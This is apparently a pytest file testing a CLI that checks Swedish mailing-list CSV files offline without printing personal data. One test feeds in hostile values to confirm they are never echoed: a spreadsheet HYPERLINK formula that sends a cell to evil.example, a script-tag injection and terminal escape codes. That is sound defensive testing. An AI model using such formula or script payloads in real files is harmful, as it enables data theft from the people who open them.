"""`notis check-recipients FILE [--json]`: the import's reader on a local file, no AWS, no personal data printed."""

from __future__ import annotations

import io
import json
import re
import zipfile
from pathlib import Path

import pytest

from chalicelib.recipients.postal import NO_POSTNUMMER
from notis_cli.main import main

GOOD = (
    "Kundlista mars\r\n"
    "Namn;Personnummer;Telefon;E-post;Ort\r\n"
    "Anna Ek;811218-9876;070-1112233;anna@exempel.se;Umeå\r\n"
    "Bo Ek;811218-9877;070-4445566;ANNA@exempel.se;Umeå\r\n"
    "Cia Lund;19811218-9876;;cia.lund.exempel.se;Luleå\r\n"
    "Dan Berg;;;;Kiruna\r\n"
    "Eva Holm;;;eva@exempel.se;Boden\r\n"
)
SECRETS = ("Anna", "anna@", "ANNA", "811218", "070-", "cia.lund", "Cia", "Dan", "Berg", "eva@", "Holm", "exempel")
KEYS = ["rows", "deliverable", "duplicates", "rejected", "warnings", "letters", "no_postal_address",
        "no_postal_address_count", "error"]


@pytest.fixture(autouse=True)
def no_aws(monkeypatch):
    """The command must not touch AWS (not even for the HMAC key secret)."""

    def refuse(*args, **kwargs):
        raise AssertionError("check-recipients created an AWS client")

    monkeypatch.setattr("chalicelib.aws.client", refuse)
    monkeypatch.setenv("NOTIS_HMAC_KEY_SECRET", "arn:aws:secretsmanager:eu-north-1:123456789012:secret:nope")
    monkeypatch.delenv("NOTIS_MAX_UPLOAD_BYTES", raising=False)


def write(tmp_path: Path, data: bytes | str, name: str = "kunder.csv") -> Path:
    path = tmp_path / name
    path.write_bytes(data.encode("cp1252") if isinstance(data, str) else data)
    return path


def run_json(path: Path, capsys) -> tuple[int, dict]:
    code = main(["check-recipients", str(path), "--json"])
    out, err = capsys.readouterr()
    assert err == ""
    assert out.count("\n") == 1  # exactly one JSON document, on one line
    return code, json.loads(out)


def assert_no_personal_data(text: str) -> None:
    for secret in SECRETS:
        assert secret not in text, secret


def test_good_file_as_json_has_exactly_the_promised_shape(tmp_path, capsys):
    code, doc = run_json(write(tmp_path, GOOD), capsys)
    assert code == 0
    assert list(doc) == KEYS
    assert doc == {
        "rows": 5,
        "deliverable": 2,
        "duplicates": 1,
        "rejected": [{"line": 5, "reason": "the e-mail address is not valid: missing @"}],
        "warnings": [
            {
                "line": 2,
                "reason": "line 2 was taken as the header row (the first line naming an e-mail column); "
                "the 1 non-blank line(s) above it were skipped",
            },
            {"line": 4, "reason": "the personnummer's check digit is wrong (a digit may be mistyped)"},
        ],
        "letters": 2,
        "no_postal_address": [{"line": 5, "reason": NO_POSTNUMMER}, {"line": 6, "reason": NO_POSTNUMMER}],
        "no_postal_address_count": 2,
        "error": None,
    }
    assert all(list(i) == ["line", "reason"] for i in doc["rejected"] + doc["warnings"])
    assert_no_personal_data(json.dumps(doc))


def test_good_file_as_text(tmp_path, capsys):
    assert main(["check-recipients", str(write(tmp_path, GOOD))]) == 0
    out, err = capsys.readouterr()
    assert err == ""
    assert "kunder.csv: usable, but 20% of rows are rejected (over 10%): an upload will be held" in out
    for label, number in (("rows", 5), ("deliverable addresses", 2), ("merged duplicates", 1),
                          ("rejected rows", 1), ("warnings", 2), ("letters", 2), ("no postal address", 2)):
        assert re.search(rf"^ +{label} +{number}\b", out, re.MULTILINE), (label, out)
    assert "  line 5: the e-mail address is not valid: missing @" in out
    assert "  line 4: the personnummer's check digit is wrong" in out
    assert f"  line 6: {NO_POSTNUMMER}" in out, "a letter that cannot be addressed is listed by line"
    assert_no_personal_data(out)


def test_many_problems_text_shows_the_first_and_counts_the_rest(tmp_path, capsys):
    rows = "".join(f"Person {i};trasig{i}.exempel.se\r\n" for i in range(30)) + "Ok;ok@x.se\r\n"
    assert main(["check-recipients", str(write(tmp_path, "Namn;E-post\r\n" + rows))]) == 0
    out = capsys.readouterr().out
    assert "  line 21: the e-mail address is not valid: missing @" in out
    assert "line 22:" not in out
    assert "  ... and 10 more (--json lists the first 30)" in out


def xlsx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("xl/workbook.xml", "<workbook>anna@exempel.se</workbook>")
    return out.getvalue()


UNUSABLE = {
    "empty": (b"", "The file is empty"),
    "header row only": (b"Namn;E-post\r\n", "The file has a header row but no people in it."),
    "excel": (xlsx(), "Excel workbook (.xlsx)"),
    "pdf": (b"%PDF-1.7\nanna@exempel.se", "PDF document"),
    "binary": (b"Namn;E-post\r\nAnna\x00;anna@exempel.se\r\n", "binary data"),
    "no e-mail column": ("Namn;Telefon\r\nAnna Ek;070-1112233\r\n", "line 1 was read as the header row"),
    "utf-16 without BOM": ("E-post;Namn\r\nanna@exempel.se;Anna\r\n".encode("utf-16-le"),
                           "UTF-16 without a byte-order mark: save as UTF-8 (CSV UTF-8) instead"),
    "mixed encoding": ("Namn;E-post\r\nÅsa;a@x.se\r\n".encode() + "Örjan;o@x.se\r\n".encode("cp1252"),
                       "mixes two character encodings"),
    "unclosed quote": ('Namn;E-post\r\n"Anna Ek;anna@exempel.se\r\n', 'quotation mark (")'),
    "huge line": (b"Namn;E-post\r\n" + b"Anna;" * 300_000 + b"\r\n", "Line 2 is longer than"),
    "too large": (("Namn;E-post\r\n" + "Anna;anna@exempel.se\r\n" * 200), "larger than the limit"),
}


@pytest.mark.parametrize("case", list(UNUSABLE))
def test_unusable_file_exits_2_with_the_reason(case, tmp_path, capsys, monkeypatch):
    data, words = UNUSABLE[case]
    if case == "too large":
        monkeypatch.setenv("NOTIS_MAX_UPLOAD_BYTES", "1000")
    path = write(tmp_path, data)
    code, doc = run_json(path, capsys)
    assert code == 2
    assert list(doc) == KEYS
    assert {k: v for k, v in doc.items() if k != "error"} == {
        "rows": 0, "deliverable": 0, "duplicates": 0, "rejected": [], "warnings": [], "letters": 0,
        "no_postal_address": [], "no_postal_address_count": 0,
    }
    assert words in doc["error"]
    assert_no_personal_data(doc["error"])

    assert main(["check-recipients", str(path)]) == 2
    out, err = capsys.readouterr()
    assert out == ""
    assert err.startswith("notis: kunder.csv cannot be used: ") and words in err
    assert_no_personal_data(err)


def test_hostile_content_is_never_echoed(tmp_path, capsys):
    hostile = (
        "Namn;Personnummer;E-post\r\n"
        '"=HYPERLINK(""http://evil.example/?""&A1;""klicka"")";811218-9877;=1+1@evil.example\r\n'
        "<script>alert('anna')</script>;+46701112233;<script>@evil.example\r\n"
        "\x1b[31mRöd\x1b[0m;811218-9876;@SUM(1+1)\r\n"
        f"{'Anna ' * 20_000};811218-9876;anna@exempel.se\r\n"
    )
    path = write(tmp_path, hostile.encode())
    code, doc = run_json(path, capsys)
    assert code == 0 and doc["rows"] == 4 and doc["error"] is None
    assert main(["check-recipients", str(path)]) == 0
    text = json.dumps(doc) + capsys.readouterr().out
    for value in ("HYPERLINK", "evil", "<script>", "alert", "\x1b", "\\u001b", "SUM", "+46", *SECRETS):
        assert value not in text, value


def test_missing_file_and_folder(tmp_path, capsys):
    code, doc = run_json(tmp_path / "finns-inte.csv", capsys)
    assert code == 2 and list(doc) == KEYS and doc["rows"] == 0
    assert doc["error"] == f"There is no file {tmp_path / 'finns-inte.csv'}."
    code, doc = run_json(tmp_path, capsys)
    assert code == 2 and "is a folder, not a file" in doc["error"]
    assert main(["check-recipients", str(tmp_path / "finns-inte.csv")]) == 2
    assert "There is no file" in capsys.readouterr().err


def test_a_file_that_will_be_held_says_so(tmp_path, capsys):
    from notis_cli.main import main

    rows = "".join(f"Person {i};{'fel' if i % 3 == 0 else f'p{i}@example.se'}\r\n" for i in range(12))
    path = tmp_path / "lista.csv"
    path.write_bytes(("Namn;E-post\r\n" + rows).encode("cp1252"))
    assert main(["check-recipients", str(path)]) == 0
    out = capsys.readouterr().out
    assert "33% of rows are rejected (over 10%): an upload will be held until notis approve" in out


def test_letters_without_an_address_column_are_announced(tmp_path, capsys):
    from notis_cli.main import main

    path = tmp_path / "lista.csv"
    path.write_bytes("Förnamn;Efternamn;E-postadress\r\nKarin;Ström;\r\nBo;Berg;bo@example.se\r\n".encode("cp1252"))
    assert main(["check-recipients", str(path)]) == 0
    out = capsys.readouterr().out
    assert "no postal address column" in out
    with_address = tmp_path / "med-adress.csv"
    with_address.write_bytes(b"Namn;E-post;Adress;Postnummer;Ort\r\nKarin;;Storgatan 1;111 22;Stockholm\r\n"
                             b"Bo;bo@example.se;Ek 2;111 22;Stockholm\r\n")
    assert main(["check-recipients", str(with_address)]) == 0
    assert "no postal address column" not in capsys.readouterr().out


def test_an_address_ses_cannot_take_is_a_letter_with_its_reason_and_an_idn_domain_is_deliverable(tmp_path, capsys):
    path = write(tmp_path, ("Namn;E-post\r\nÅsa;åsa@exempel.se\r\nAnna;anna@exempel-åäö.se\r\n"
                            "Bo;" + "b" * 300 + "@x.se\r\n" + "C" * 500 + ";cy@x.se\r\n").encode())
    assert main(["check-recipients", str(path), "--json"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert (doc["rows"], doc["deliverable"], doc["letters"]) == (4, 2, 2)
    assert [r["line"] for r in doc["rejected"]] == [4]
    assert "longer than 254 characters" in doc["rejected"][0]["reason"]
    reasons = {w["line"]: w["reason"] for w in doc["warnings"]}
    assert "SES cannot send to" in reasons[2] and "needs a letter" in reasons[2]
    assert "longer than 200 characters" in reasons[5]
    assert main(["check-recipients", str(path)]) == 0
    out = capsys.readouterr().out
    assert "line 2: the e-mail address has letters SES cannot send to" in out
    assert "åsa" not in out and "exempel" not in out
